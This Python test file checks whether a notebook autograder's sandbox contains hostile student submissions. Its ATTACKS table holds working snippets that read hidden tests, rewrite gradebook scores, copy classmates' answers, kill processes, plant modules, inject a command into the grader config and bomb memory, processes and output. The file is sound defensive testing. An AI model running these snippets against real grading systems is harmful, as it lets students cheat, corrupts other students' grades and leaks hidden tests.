"""Does the grading sandbox contain hostile submissions? An adversarial class, graded for real.

A class of lesson 01 is graded in a scratch course with `Course.autograde`: first a perfect and a
blank student, then a class of attackers, each named by what it tries. Each attacker is a perfect
or a blank submission with hostile cells added, so its honest score is known. The tests check
that every attacker gets exactly that score and that nothing outside its own autograded folder
changed: the course's files, the other students' gradebook rows, the network, the processes.
"""

from __future__ import annotations

import copy
import hashlib
import os
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from rnncourse.course.submissions import perfect_submission
from rnncourse.engine.course_folder import notebook_path
from rnncourse.engine.notebooks import (
    cells_by_id,
    grade_id,
    is_answer_cell,
    read_notebook,
)
from rnncourse.engine.sandbox import SandboxUnavailable
from testing import REPO
from testing.plain_grader import PlainCourse

from .helpers import hidden_lines

NAME = "01_simple_rnn"
pytestmark = pytest.mark.lesson(NAME)
# A tight budget, so the endless loops end soon; per cell 20 s, per notebook 60 s.
LIMITS = ("\nc.Execute.timeout = 20\nc.GradingLimits.notebook_time_limit = 60\n"
          "c.GradingSandbox.box_root = {boxes!r}\n")
CLASS_BOUND_SECONDS = 600

# Walks the folders a submission could hope to reach, without descending into the system.
WALK = '''import os


def _walk(root, depth=5):
    skip = {"/proc", "/sys", "/usr", "/dev", "/etc", "/lib", "/lib64", "/bin", "/sbin"}
    found = []
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip and
                   d not in (".pyenv", ".venv", "site-packages") and
                   folder.count(os.sep) - root.count(os.sep) < depth]
        found += [os.path.join(folder, f) for f in files]
    return found


COURSE = {course!r}
PLACES = [COURSE, os.getcwd(), "..", "../..", "../../..", "/", os.path.expanduser("~"),
          "/tmp", "/var/tmp", "/root", "/work"]
'''

ATTACKS = {
    # name: (base, where the hostile cell goes, code, honest score)
    "reads_hidden_tests": ("perfect", "end", WALK + '''
for place in PLACES:
    for path in _walk(place):
        if path.endswith((".ipynb", ".py", ".db", ".json")):
            try:
                print(path, open(path, errors="replace").read()[:200000])
            except OSError as err:
                print(path, err)
print("history:", In, _ih)
''', 10),
    "rewrites_gradebook": ("blank", "start", WALK + '''
import sqlite3
for place in PLACES:
    for path in _walk(place):
        if path.endswith(".db"):
            try:
                db = sqlite3.connect(path)
                db.execute("UPDATE grade SET manual_score = 100")
                db.commit()
                print("rewrote", path)
            except Exception as err:
                print(path, err)
''', 0),
    "copies_other_student": ("blank", "start", WALK + '''
import json
for place in PLACES:
    for path in _walk(place):
        if "/submitted/" in path and path.endswith(".ipynb"):
            try:
                cells = json.load(open(path))["cells"]
            except Exception as err:
                print(path, err)
                continue
            for cell in cells:
                if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                    try:
                        exec("".join(cell["source"]), globals())
                    except Exception as err:
                        print(path, err)
''', 0),
    "kills_grader": ("blank", "start", '''
import os
import signal
for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as err:
            print(pid, err)
''', 0),
    "plants_module_in_source": ("perfect", "start", WALK + '''
for folder in [COURSE + "/source/01_simple_rnn", COURSE + "/release/01_simple_rnn", COURSE,
               os.getcwd(), "..", "../..", "/tmp", os.path.expanduser("~")]:
    for module in ("keras.py", "numpy.py", "tensorflow.py"):
        try:
            with open(os.path.join(folder, module), "w") as planted:
                planted.write("raise SystemExit('planted module')\\n")
            print("planted", folder, module)
        except OSError as err:
            print(folder, err)
''', 10),
    "edits_config": ("blank", "start", WALK + '''
for place in PLACES:
    for path in _walk(place):
        if path.endswith("nbgrader_config.py"):
            try:
                with open(path, "a") as config:
                    config.write("\\nimport os; os.system('touch /tmp/pwned')\\n")
                print("edited", path)
            except OSError as err:
                print(path, err)
''', 0),
    "network_loopback": ("perfect", "end", '''
import socket
for host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((host, {port}), timeout=3) as conn:
            conn.sendall(b"leaked")
        print("connected to", host)
    except OSError as err:
        print(host, err)
''', 10),
    "memory_bomb": ("perfect", "end", '''
hoard = []
for step in range(40):
    hoard.append(bytearray(256 * 2**20))
    print("holding", (step + 1) / 4, "GiB")
''', 10),
    "process_bomb": ("perfect", "end", '''
import subprocess
import threading
import time
started = []
try:
    for _ in range(2000):
        started.append(subprocess.Popen(["sleep", "900"]))
except OSError as err:
    print("processes stopped at", len(started), err)
threads = 0
try:
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(900,), daemon=True).start()
        threads += 1
except RuntimeError as err:
    print("threads stopped at", threads, err)
''', 10),
    "huge_output": ("perfect", "after_first_answer", '''
for _ in range(200):
    print("x" * 1_000_000)
''', 10),
    "exits_kernel": ("perfect", "after_test_rnn_layer_recurrence", '''
import os
os._exit(0)
''', 6),
}


def hostile_class(source, release, port):
    """{student: notebook} for the attackers; the honest score of each."""
    perfect = perfect_submission(source, release)
    bases = {"perfect": perfect, "blank": release}
    students, honest = {}, {}
    for name, (base, where, code, score) in ATTACKS.items():
        nb = copy.deepcopy(bases[base])
        cell = nbformat.v4.new_code_cell(code.replace("{port}", str(port)))
        positions = [i for i, c in enumerate(nb.cells) if is_answer_cell(c)]
        if where == "start":
            index = positions[0]
        elif where == "end":
            index = len(nb.cells)
        elif where == "after_first_answer":
            index = positions[0] + 1
        else:
            gid = where.removeprefix("after_")
            index = next(i for i, c in enumerate(nb.cells) if grade_id(c) == gid) + 1
        nb.cells.insert(index, cell)
        students[name], honest[name] = nb, score
    # A pasted copy of a test cell, grade id and all, at the top of a correct notebook.
    duplicated = copy.deepcopy(perfect)
    pasted = copy.deepcopy(cells_by_id(duplicated)["test_rnn_layer_shapes"])
    pasted.id = "pasted-test-cell"
    duplicated.cells.insert(1, pasted)
    students["duplicate_grade_id"], honest["duplicate_grade_id"] = duplicated, 10
    # Every answer cell loops forever, one of them deaf to interrupts.
    looping = copy.deepcopy(release)
    answers = [c for c in looping.cells if is_answer_cell(c)]
    for cell in answers:
        cell.source = "while True:\n    pass"
    answers[-1].source = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n" \
                         "while True:\n    pass"
    students["endless_loop_every_cell"], honest["endless_loop_every_cell"] = looping, 0
    return students, honest


def fingerprint(folder: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    """sha256 of every file under `folder`, except those under the `skip` prefixes."""
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not str(p.relative_to(folder)).startswith(skip)
    }


def gradebook_rows(course: Path) -> list[tuple]:
    """Every grade row with its student and cell: what a rewrite would change."""
    with sqlite3.connect(course / "gradebook.db") as db:
        return db.execute(
            "SELECT student.id, base_cell.name, grade.id, grade.auto_score, grade.manual_score, "
            "grade.extra_credit, grade.needs_manual_grade FROM grade "
            "JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id "
            "JOIN submitted_assignment ON submitted_notebook.assignment_id = "
            "submitted_assignment.id JOIN student ON submitted_assignment.student_id = "
            "student.id JOIN base_cell ON grade.cell_id = base_cell.id ORDER BY 1, 2"
        ).fetchall()


def sandbox_processes(boxes: str) -> list[str]:
    """Processes of this run's sandboxes (their command lines name the run's box folder)."""
    done = subprocess.run(["ps", "-eo", "args="], capture_output=True, text=True)
    return [line for line in done.stdout.splitlines() if boxes in line or "sleep 900" in line]


@pytest.fixture(scope="module")
def adversarial(tmp_path_factory):
    """The class graded: honest scores, scores, problems, and what was seen around the run."""
    root = tmp_path_factory.mktemp("adversarial")
    course = PlainCourse.scratch(root / "course", [NAME])
    boxes = root / "boxes"
    with open(course.path / "nbgrader_config.py", "a") as config:
        config.write(LIMITS.format(boxes=str(boxes)))
    release = course.generate(NAME)
    source = read_notebook(notebook_path("source", NAME, REPO))

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.5)
    received: list[bytes] = []
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            received.append(conn.recv(100) or b"(connected)")
            conn.close()

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()

    course.submit(NAME, "perfect", perfect_submission(source, release))
    course.submit(NAME, "blank", release)
    assert course.autograde(NAME) == {}
    before_rows = gradebook_rows(course.path)
    course_files = fingerprint(course.path, skip=("autograded", "gradebook.db", "submitted"))

    students, honest = hostile_class(source, release, listener.getsockname()[1])
    for student, nb in students.items():
        course.submit(NAME, student, nb)
    started = time.perf_counter()
    problems = course.autograde(NAME)
    seconds = time.perf_counter() - started
    subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", NAME, "--force"],
                   cwd=course.path, capture_output=True, check=True)
    stop.set()
    thread.join(5)
    listener.close()
    return {
        "course": course, "honest": honest, "scores": course.scores(NAME), "problems": problems,
        "seconds": seconds, "received": received,
        "rows_before": before_rows, "rows_after": gradebook_rows(course.path),
        "files_before": course_files,
        "files_after": fingerprint(course.path, skip=("autograded", "gradebook.db", "submitted",
                                                      "feedback")),
        "boxes_left": list(boxes.glob("*")),
        "processes_left": sandbox_processes(str(boxes)),
        "hidden": hidden_lines(source),
    }


def total(scores) -> float:
    return sum(cell.score for cell in scores.values())


@pytest.mark.parametrize("attacker", [*ATTACKS, "duplicate_grade_id", "endless_loop_every_cell"])
def test_attacker_gets_exactly_its_honest_score(adversarial, attacker):
    """Does each hostile submission score what its honest cells earn, no more, no less?"""
    scores = adversarial["scores"][attacker]
    assert scores is not None, adversarial["problems"].get(attacker)
    assert total(scores) == adversarial["honest"][attacker]


def test_the_class_around_the_attackers_is_graded_and_untouched(adversarial):
    """Perfect keeps 10, blank 0, every attacker is graded, and the run ends in time."""
    scores = adversarial["scores"]
    assert total(scores["perfect"]) == 10 and total(scores["blank"]) == 0
    assert adversarial["problems"] == {}
    assert adversarial["seconds"] < CLASS_BOUND_SECONDS


def test_course_files_and_other_grades_are_byte_identical(adversarial):
    """Are source/, release/, the config and the earlier students' grade rows unchanged?"""
    assert adversarial["files_after"] == adversarial["files_before"]
    earlier = [row for row in adversarial["rows_after"] if row[0] in ("perfect", "blank")]
    assert earlier == adversarial["rows_before"]


def test_nothing_reaches_the_network_or_outlives_grading(adversarial):
    """No connection reached the loopback listener; no process or sandbox folder is left."""
    assert adversarial["received"] == []
    assert adversarial["processes_left"] == []
    assert adversarial["boxes_left"] == []


def test_no_student_receives_hidden_test_text(adversarial):
    """Is every hidden line absent from all feedback, and from every output in autograded/?"""
    course = adversarial["course"].path
    hidden = adversarial["hidden"]
    assert hidden
    for html in (course / "feedback").rglob("*.html"):
        text = html.read_text()
        leaked = [line for line in hidden if line in text]
        assert not leaked, f"{html} shows {leaked[:2]}"
    for path in (course / "autograded").rglob("*.ipynb"):
        nb = read_notebook(path)
        shown = "\n".join(str(o) for c in nb.cells for o in c.get("outputs", []))
        leaked = [line for line in hidden if line in shown]
        assert not leaked, f"{path} outputs show {leaked[:2]}"


def test_huge_output_is_cut_to_the_limit(adversarial):
    """Is a 200 MB print kept to about the per-cell byte limit, with a note?"""
    path = notebook_path("autograded", NAME, adversarial["course"].path, "huge_output")
    assert path.stat().st_size < 3_000_000
    assert "[output cut: this cell showed more than" in path.read_text()


def test_memory_and_processes_are_bounded_by_the_sandbox(adversarial):
    """Did the memory and process bombs hit the sandbox's limits, inside their own cells?"""
    course = adversarial["course"].path
    memory = notebook_path("autograded", NAME, course, "memory_bomb").read_text()
    assert "MemoryError" in memory and "holding 4.0 GiB" not in memory
    processes = notebook_path("autograded", NAME, course, "process_bomb").read_text()
    assert "processes stopped at" in processes and "threads stopped at" in processes


def test_grading_stops_before_any_code_runs_without_bubblewrap(tmp_path):
    """With no bwrap on PATH, does autograde refuse to start, saying how to fix it?"""
    course = PlainCourse.scratch(tmp_path / "course", [NAME])
    release = course.generate(NAME)
    course.submit(NAME, "someone", release)
    path = os.environ["PATH"]
    os.environ["PATH"] = str(Path(sys.executable).parent)
    try:
        with pytest.raises(SandboxUnavailable, match="apt-get install bubblewrap"):
            course.autograde(NAME)
    finally:
        os.environ["PATH"] = path
    done = subprocess.run([sys.executable, "-m", "nbgrader", "autograde", NAME, "--create"],
                          cwd=course.path, capture_output=True, text=True,
                          env={**os.environ, "PATH": str(Path(sys.executable).parent)})
    assert done.returncode == 2
    assert "grading stopped before running any submission" in done.stderr
    assert "run_student_code_unsandboxed" in done.stderr
    assert not (course.path / "autograded").exists()
